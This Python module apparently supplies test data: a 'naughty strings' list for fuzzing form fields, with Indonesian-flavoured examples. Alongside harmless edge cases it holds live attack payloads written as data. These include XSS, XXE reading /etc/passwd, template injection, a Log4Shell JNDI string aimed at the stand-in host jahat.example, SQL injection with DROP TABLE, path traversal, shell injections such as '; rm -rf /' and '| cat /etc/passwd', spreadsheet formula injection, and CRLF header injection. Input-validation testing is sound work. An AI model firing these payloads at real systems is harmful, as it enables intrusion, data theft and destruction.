"""Strings that have broken somebody's software, one line for each way: for every field of every form.

Written for this service; the well-known lists of such strings inspired the classes, not the words.
"""

from __future__ import annotations

from typing import Final

_EMPTY_LIKE = ["", " ", "\t", "\n", "\r\n \r\n", "\u00a0", "\u3000", "\u200b", "\ufeff", "\u2060\u200d", "\u2800", "-"]
_WORDS_OF_PROGRAMS = [
    *("null", "NULL", "None", "nil", "undefined", "true", "FALSE", "NaN", "Infinity", "-Infinity", "nan", "(null)"),
    *(
        "constructor",
        "__proto__",
        "hasOwnProperty",
        "toString",
        "__class__",
        "self",
        "CON",
        "PRN",
        "LPT1",
        "eval",
        "then",
    ),
]
_NUMBERS = [
    *("0", "-0", "+0", "00", "1.0", "-1", "1e3", "1e309", "-1e309", "1E-400", "0x1f", "0b11", "1_000", "1,000.50"),
    *(
        "1.000,50",
        "2147483648",
        "-9223372036854775809",
        "18446744073709551616",
        "9" * 200,
        "1/0",
        "0.1e",
        "..",
        "1.2.3",
    ),
    *(
        "\u0661\u0662\u0663",
        "\u0967\u0968\u0969",
        "\uff11\uff12\uff13",
        "\u00bd",
        "\u2460",
        "\u2163",
        "\U0001d7d9",
        "\u221e",
    ),
]
_DATES = [
    *("2026-02-30", "0000-00-00", "9999-12-31", "10000-01-01", "-0001-01-01", "1899-12-31", "29/02/2025", "31/13/2026"),
    *(
        "2026-11-21T25:61:61Z",
        "1700000000",
        "kemarin",
        "\u0662\u0660\u0662\u0666-\u0661-\u0661",
        "2026-1-1 ",
        "24:00",
        "99:99",
    ),
]
_SCRIPTS_OF_THE_WORLD = [
    "\ua9b2\ua9a0\ua9aa\ua9c0\ua997\ua9ae",  # Javanese
    "\u1a00\u1a14\u1a00\u1a17\u1a19",  # Buginese
    "\u4e09\u56fd\u6f14\u4e49",
    "\u65e5\u672c\u8a9e\u30ab\u30bf\u30ab\u30ca",
    "\uff66\uff67\uff68",
    "\ud55c\uad6d\uc5b4",
    "\u0e20\u0e32\u0e29\u0e32\u0e44\u0e17\u0e22",
    "\u0627\u0644\u0633\u0644\u0627\u0645 \u0639\u0644\u064a\u0643\u0645",
    "\u05e9\u05dc\u05d5\u05dd",
    "\u0928\u092e\u0938\u094d\u0924\u0947",
    "\u0421\u043f\u0430\u0441\u0438\u0431\u043e",
    "\u0391\u03bb\u03c6\u03b1",
    "\u01c4\u01c5\u01c6 \ufb03 \u1e9e \u0130\u0131 \u017f \u00df",  # letters that change length with their case
    "e\u0301 \u00e9 n\u0303 \u1100\u1161",  # the same letter, composed and decomposed
    "Z\u0310\u0311\u0312\u0313\u0314A\u0315\u031b\u0316\u0317L\u0318\u0319\u031c\u031d\u031eG\u0321\u0322\u0327O",
]
_SIGNS = [
    "\U0001f941\U0001f30b\U0001f33e",
    "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466",
    "\U0001f44b\U0001f3fd\u270a\U0001f3ff",
    "\U0001f1ee\U0001f1e9\U0001f1ee",
    "\u2764\ufe0f\u2764\ufe0e1\ufe0f\u20e3",
    "\U0010ffff\ue000\uf8ff",
    "\U00020bb7\U0002a6d6",
    "\u2028\u2029\u0085\u000b\u000c",  # ends of lines, to some
    "\u202eterbalik\u202c \u2066dalam\u2069 \u200fkanan",
    "\ufffe\uffff\ufffd",
    "\u0000nol\u0000di\u0000mana\u0000mana",
    "\x01\x02\x07\x08\x1b[31m\x7f\x80\x9f",
    "a\u0300" * 200,
    "\ufdfa" * 50,
]
_MARKUP = [
    "<script>alert('kt')</script>",
    "<ScRiPt src=//jahat.example/x></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '"><b onmouseover="alert(1)">x',
    "' autofocus onfocus='alert(1)",
    "</textarea><script>alert(2)</script>",
    "</title><plaintext>",
    "<!-- tidak ditutup",
    "]]><![CDATA[x",
    "javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "&lt;b&gt; &amp;amp; &#60; &#x3c; &nbsp;",
    "<a href='http://jahat.example'>klik</a>",
    "<style>*{display:none}</style>",
    "<iframe src=//jahat.example></iframe>",
    "\u003cscript\u003e \\u003cscript\\u003e %3Cscript%3E",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
]
_TEMPLATES = [
    "{{ 7|add:7 }}{% debug %}",
    "{% load static %}{{ settings.SECRET_KEY }}",
    "{# komentar",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{0.__class__}",
    "%s%s%n%d%(x)s",
    "{}{0}{name!r}",
    "$(reboot)",
    "`id`",
    "${jndi:ldap://jahat.example/a}",
]
_DATABASES = [
    "'; DROP TABLE cases_case; --",
    "1' OR '1'='1",
    '" OR ""="',
    "admin'--",
    "') UNION SELECT NULL,NULL--",
    "%' AND 1=1 --",
    "100%",
    "_____",
    "a_b%c\\%d",
    "\\",
    "\\\\'",
    "'",
    '"',
    "x' COLLATE NOCASE --",
    "\\copy x to '/tmp/x'",
    'NEAR(a b) OR "c* AND NOT',
    "story:(a|b)&!c <-> d:*",
]
_FILES_AND_SHELLS = [
    "../../../../etc/passwd",
    "..\\..\\windows\\system32",
    "/dev/null",
    "C:\\CON\\aux.txt",
    "file:///etc/passwd",
    "%00%0a%0d%2e%2e%2f",
    "; rm -rf / #",
    "| cat /etc/passwd",
    "-rf --help",
    "~root",
    "a\r\nSet-Cookie: x=1\r\n\r\n<html>",
    "nama.jpg\u0000.php",
]
_SPREADSHEETS = ["=1+1", "=cmd|' /C calc'!A0", "+62", "@SUM(1)", "\t=1"]
_ADDRESSES = [
    "a@b",
    "@",
    "a@@b.c",
    '"aneh"@contoh.id',
    "x" * 65 + "@contoh.id",
    "a@" + "b" * 250 + ".id",
    "warsiti@contoh.id\nBcc: semua@contoh.id",
    "\u00fc\u00f1@\u4f8b\u3048.jp",
    "+62 812-ABCD",
    "0812" + "3" * 40,
    "tel:08123",
    "33.03.13.2003",
    "3303135508800001",
]
_LONG = ["a" * 121, "panjang " * 60, "\n" * 500, "\u0930" * 400, "W" * 1500, "a,b;" * 500]

NAUGHTY: Final[tuple[str, ...]] = (
    *_EMPTY_LIKE,
    *_WORDS_OF_PROGRAMS,
    *_NUMBERS,
    *_DATES,
    *_SCRIPTS_OF_THE_WORLD,
    *_SIGNS,
    *_MARKUP,
    *_TEMPLATES,
    *_DATABASES,
    *_FILES_AND_SHELLS,
    *_SPREADSHEETS,
    *_ADDRESSES,
    *_LONG,
)
